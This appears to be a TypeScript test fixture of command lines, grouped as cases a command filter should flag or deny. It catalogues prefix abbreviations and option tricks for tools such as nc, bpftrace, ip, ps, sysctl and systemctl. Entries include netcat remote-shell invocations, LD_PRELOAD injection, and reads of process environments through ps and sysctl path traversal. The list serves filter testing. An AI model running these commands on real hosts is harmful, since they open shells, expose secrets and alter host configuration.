import { type ArgumentCase, casesOf } from './argument-case.ts'

/** Arguments that open files, run programs or change something, in the forms that a table of exact names misses. */
export const hiddenArguments: readonly ArgumentCase[] = [
  ...casesOf(
    'named',
    'getopt_long(3): any unambiguous prefix of a long option; values in the same argument',
    `
    ss --diag=/tmp/x
    ss --dia /tmp/x
    ss --filt /tmp/x
    ss -tnF/tmp/x
    ss --ne other
    iptables -L --modpr=/tmp/x
    iptables-save --fil=/tmp/x
    bpftrace --uns -e 'BEGIN { exit(); }'
    bpftrace --unsaf -e 'BEGIN { system("id"); }'
    bpftrace -o/tmp/x -e 'BEGIN { exit(); }'
    bpftrace -l -o/tmp/x
    bpftrace -lo/tmp/x
    bpftrace -c/bin/sh -e 'END { exit(); }'
    bpftrace -dI/tmp -l
    bpftrace --incl /tmp/x -l
    bpftrace -l /tmp/list
    bpftool -B/tmp/x btf list
    bpftool --base /tmp/x btf list
    bpftool btf list --base-b=/tmp/x
    tcpdump -nni any -w/tmp/x
    tcpdump -niany -V/tmp/x
    tcpdump -nzsh -w x
    mtr --fil /tmp/x
    nc --exe sh 10.0.0.1 1
    nc --sh-ex id 10.0.0.1 1
    nc -vnesh 10.0.0.1 1
    nc -o/tmp/x 10.0.0.1 1
    nc --hex=/tmp/x 10.0.0.1 1
    nc --ssl-ke /tmp/x 10.0.0.1 1
    wget --use-ask=/tmp/x -O- http://10.0.0.1
    wget --exec=robots=off -O- http://10.0.0.1
    wget -qO/tmp/x http://10.0.0.1
    wget -a/tmp/x -O- http://10.0.0.1
    wget -o/tmp/- -O- http://10.0.0.1
    wget --input-f=/tmp/x -O-
    curl -c/tmp/x http://10.0.0.1
    curl --cookie-j /tmp/x http://10.0.0.1
    curl -sSLo/tmp/x http://10.0.0.1
    curl -vD/tmp/x http://10.0.0.1
    curl --dump-h /tmp/x http://10.0.0.1
    iperf3 -c 10.0.0.1 --logf=/tmp/x
    iperf3 -c 10.0.0.1 -I/tmp/x
    sysctl --loa=/tmp/x
    sysctl -ap/tmp/x
    sysctl --sys
    conntrack --load-f /tmp/x
    conntrack -R/tmp/x
    ebtables -L --atomic-f /tmp/x
    ebtables --atomic-file=/tmp/x -L
    ebtables -LM/tmp/x
    ebtables -M/tmp/x -L
    lsof -nDb/tmp/x
    journalctl --fi=/tmp/x
    journalctl --dir=/tmp
    journalctl --cursor-fi=/tmp/x
    journalctl --im=/tmp/x
    systemctl --hos other status
    systemctl -Hother status
    systemctl --ro=/tmp status
    systemctl --mach x status
    grep -f/tmp/x /host/etc/hosts
    grep --fil=/tmp/x y
    sort --out=/tmp/x
    sort -uo/tmp/x
    wc --files0=/tmp/x
    `,
  ),
  ...casesOf(
    'deny',
    'the tools’ manuals: options that change something',
    `
    ss -tK dst 10.0.0.1
    ss --kil state time-wait
    iptables -nZL
    iptables --zer
    iptables -A INPUT -m conntrack --ctstate NEW -j ACCEPT
    iptables -I INPUT -m hashlimit --hashlimit-upto 5/sec --hashlimit-name x -j ACCEPT
    systemctl restart kubelet --no-block
    iptables-restore --noflush
    ip6tables-restore -t
    conntrack --del -s 10.0.0.1
    conntrack -Ds 10.0.0.1
    conntrack -Lz
    conntrack -LD
    ipset fl x
    ipset -X x
    ipset dest
    ebtables -LZ
    ebtables --init
    journalctl --vacuum-s=1
    journalctl --rot
    journalctl --flus
    journalctl --relinq
    systemctl --now status kubelet
    sysctl -nw a=b
    sysctl --wri a=b
    `,
  ),
  ...casesOf(
    'deny',
    'iproute2 lib/utils.c matches(): any prefix of a word, the first in the order of the source',
    `
    ip l s eth0 down
    ip li s dev eth0 mtu 9000
    ip a a 10.0.0.9/24 dev eth0
    ip a c 10.0.0.9/24 dev eth0
    ip a sa
    ip a showd
    ip r a default via 10.0.0.1
    ip r r default via 10.0.0.1
    ip r t 10.0.0.0/8
    ip r d default
    ip r f cache
    ip r sa
    ip ru a from all lookup 5
    ip ru f
    ip n a 10.0.0.1 lladdr 0:0:0:0:0:1 dev eth0
    ip n f all
    ip nex f
    ip netn d x
    ip netns se x 5
    ip tunt a mode tun
    ip mpt e f
    ip tc f
    ip tok se ::1 dev eth0
    ip ioam namespace add 1
    `,
  ),
  ...casesOf(
    'named',
    'ip(8), ip-monitor(8), ip-vrf(8), ip-netns(8)',
    `
    ip -b /tmp/x
    ip -ba /tmp/x
    ip --bat /tmp/x
    ip -4 -b/tmp/x
    ip -f inet -batch /tmp/x
    ip -c -b - addr
    ip monitor f /tmp/x
    ip mo link fi /tmp/x
    ip monitor route label file /tmp/x
    ip -t mon all-nsid file /tmp/x
    ip vrf exec blue id
    ip vrf e blue id
    ip v e blue id
    ip netn e x id
    ip netns ex x id
    ip -a netns exec id
    ip -n other addr
    ip -ne other addr
    `,
  ),
  ...casesOf(
    'named',
    'bpftool(8), src/main.c is_prefix(): any prefix of a word',
    `
    bpftool prog dump xlated id 5 fi /tmp/x
    bpftool p d x id 5 f /tmp/x
    bpftool prog dump jited name n file /tmp/x
    bpftool prog show pi /sys/fs/bpf/x
    bpftool p s p /sys/fs/bpf/x
    bpftool map dump pinned /sys/fs/bpf/x
    bpftool bt d f /tmp/x
    bpftool btf dump fil /tmp/x format c
    bpftool b file /tmp/x
    bpftool bat f /tmp/x
    bpftool gen skeleton /tmp/x
    bpftool g o /tmp/x /tmp/y
    `,
  ),
  ...casesOf(
    'deny',
    'bpftool(8)',
    `
    bpftool map upd id 1 key 0 value 0
    bpftool m del id 1 key 0
    bpftool net det xdp dev eth0
    bpftool iter pin /tmp/x /sys/fs/bpf/x
    `,
  ),
  ...casesOf(
    'named',
    'ethtool(8): sub-commands with files',
    `
    ethtool -d eth0 file /tmp/x
    ethtool -d eth0 raw on file /tmp/x
    ethtool --register-dump eth0 hex off file /tmp/x
    ethtool --json -d eth0 file /tmp/x
    ethtool --debug 1 -d eth0 file /tmp/x
    ethtool -w eth0 data /tmp/x
    ethtool -f eth0 /tmp/x
    ethtool --flash eth0 /tmp/x 1
    `,
  ),
  ...casesOf(
    'deny',
    'ethtool(8)',
    `
    ethtool --debug 1 -s eth0 speed 100
    ethtool -I -A eth0 rx off
    ethtool -Q eth0 queue_mask 1 --coalesce rx-usecs 1
    ethtool --set-phy-tunable eth0 downshift on
    `,
  ),
  ...casesOf(
    'named',
    'tcpdump(8), print-esp.c: -E file NAME, in any of the secrets',
    `
    tcpdump -ni any -E 'file /tmp/x' esp
    tcpdump -ni any '-Efile /tmp/x' esp
    tcpdump -ni any -E 'FILE /tmp/x' esp
    tcpdump -ni any -E 'des:y,file /tmp/x' esp
    tcpdump -ni any -E ' file /tmp/x' esp
    tcpdump -ni any -c 1 -nE 'file /tmp/x' esp
    `,
  ),
  ...casesOf(
    'named',
    'openssl(1): options with long names after one dash or two; providers and engines are program code',
    `
    openssl ciphers -provider-path /tmp -provider x
    openssl ciphers -v -propquery x -provider x
    openssl ciphers --provider-path /tmp
    openssl s_client -connect h:1 -provider-path /tmp -provider x
    openssl s_client -connect h:1 -CAstore file:/tmp/x
    openssl s_client -connect h:1 --CAfile /tmp/x
    openssl s_client -connect h:1 -chainCApath /tmp
    openssl s_client -connect h:1 -requestCAfile /tmp/x
    openssl s_client -connect h:1 -srp_arg x -xkey /tmp/x
    openssl s_client -connect h:1 -pass file:/tmp/x
    openssl x509 -in /tmp/x
    openssl x509 -noout -CAkey /tmp/x
    openssl x509 -out /tmp/x
    openssl s_server -accept 1
    openssl engine -t dynamic
    `,
  ),
  ...casesOf(
    'named',
    'nmap 7.93, getopt_long_only() and its undocumented -o, -i, -m',
    `
    nmap -o /tmp/x 10.0.0.1
    nmap -ox 10.0.0.1
    nmap -vo /tmp/x 10.0.0.1
    nmap -m /tmp/x 10.0.0.1
    nmap -i /tmp/x
    nmap -excludef /tmp/x 10.0.0.1
    nmap -styles /tmp/x -oX - 10.0.0.1
    nmap -scrip vuln 10.0.0.1
    nmap -resum /tmp/x
    nmap 10.-.-.-
    nmap 10.0.0.1-
    nmap 10.0.0.-9
    nmap 10.0.0.1,2
    nmap example.org/28
    nmap 'fd00::/120'
    nmap -sn 10.*.0.1
    `,
  ),
  ...casesOf(
    'named',
    'socat(1): options with values, addresses with files',
    `
    socat -lf/tmp/x - TCP:h:1
    socat -lf /tmp/x - TCP:h:1
    socat -r/tmp/x - TCP:h:1
    socat -R /tmp/x - TCP:h:1
    socat -L/tmp/x - TCP:h:1
    socat -t 1 -W /tmp/x - TCP:h:1
    socat - TCP:h:1,lockfile=/tmp/x
    socat - GOPEN:/tmp/x
    socat -t /tmp/x TCP:h:1
    socat - TCP4-L:9
    `,
  ),
  ...casesOf(
    'named',
    'ipset(8) 7.17: -f and -file with one dash or two, behind any command',
    `
    ipset -f /tmp/x save
    ipset list --f /tmp/x
    ipset l -o save -f /tmp/x
    ipset -o plain list --file /tmp/x
    ipset rest -f /tmp/x
    `,
  ),
  ...casesOf(
    'named',
    'ps(1) of procps-ng 4.0.2: BSD e, with or without a dash, and the column environ',
    `
    ps e
    ps eww 1
    ps axe
    ps auxeww
    ps -p 1 e
    ps -eo pid,args e
    ps -ef xe
    ps -auxe
    ps -axe
    ps -ef -aux
    ps p 1 eo args
    ps -eo pid,environ
    ps -oenviron=ENV -p 1
    ps o pid,environ
    ps --format environ
    ps --form=pid,environ
    ps -O environ
    `,
  ),
  ...casesOf(
    'named',
    'GTFOBins, sysctl: names with slashes leave /proc/sys in procps before 4',
    `
    sysctl kernel/../../../etc/hostname
    sysctl -n net/../../1/environ
    sysctl /etc/hostname
    sysctl -a ../../etc/hostname
    `,
  ),
  ...casesOf(
    'named',
    'crictl(1): global options before the command',
    `
    crictl exec x id
    crictl -r unix:///run/containerd/containerd.sock exec x id
    crictl --timeout 5s exec -it x sh
    crictl -i unix:///x -D attach x
    crictl --config=/tmp/x ps
    crictl run /tmp/c.json /tmp/p.json
    crictl runp /tmp/p.json
    crictl frobnicate
    `,
  ),
  ...casesOf(
    'named',
    'the tools’ manuals: commands that run programs, and ones that no table has',
    `
    systemctl edit kubelet
    systemctl switch-root /tmp
    systemctl link /tmp/x.service
    systemctl set-environment LD_PRELOAD=/tmp/x
    systemctl frobnicate
    systemctl restar kubelet
    ethtool eth0 -s eth0 speed 10
    bpftool -f -L prog load x y
    bpftool p l /tmp/x /sys/fs/bpf/x
    ip mac s
    ip x s
    ip xf p
    ip sr hmac show
    curl --frobnicate http://10.0.0.1
    wget --frobnicate -O- http://10.0.0.1
    nc --frobnicate 10.0.0.1 1
    socat -Y - TCP:h:1
    tcpdump --frobnicate
    nmap --frobnicate 10.0.0.1
    ss --frobnicate
    ip -frobnicate addr
    ip frobnicate show
    bpftool frobnicate
    bpftrace --frobnicate -l
    journalctl --frobnicate
    ethtool --frobnicate eth0
    nft --frobnicate list ruleset
    iperf3 -c h --frobnicate
    openssl s_client -frobnicate
    sort --frobnicate
    nft -I/tmp list ruleset
    nft -if /tmp/x
    nft -cnf/tmp/x
    iptables-restore /tmp/x
    iptables -A INPUT -m bpf --object-pinned /sys/fs/bpf/x
    ip6tables-restore -n /tmp/x
    dig -f/tmp/x
    dig -4rf/tmp/x
    dig +tls-c=/tmp/x @h example.org
    drill -Tk/tmp/x example.org
    jq -L/tmp .
    jq -rf /tmp/x
    jq --rawfile a /tmp/x .
    `,
  ),
  ...casesOf(
    'named',
    'ping(8): floods; strtod(3) reads hexadecimal and exponents',
    `
    ping -f 10.0.0.1
    ping -c 9 -i0 10.0.0.1
    ping -i 1e-3 10.0.0.1
    ping -i 0x1p-9 10.0.0.1
    ping -i nan 10.0.0.1
    ping -nl50 10.0.0.1
    ping -i ,1 10.0.0.1
    `,
  ),
]
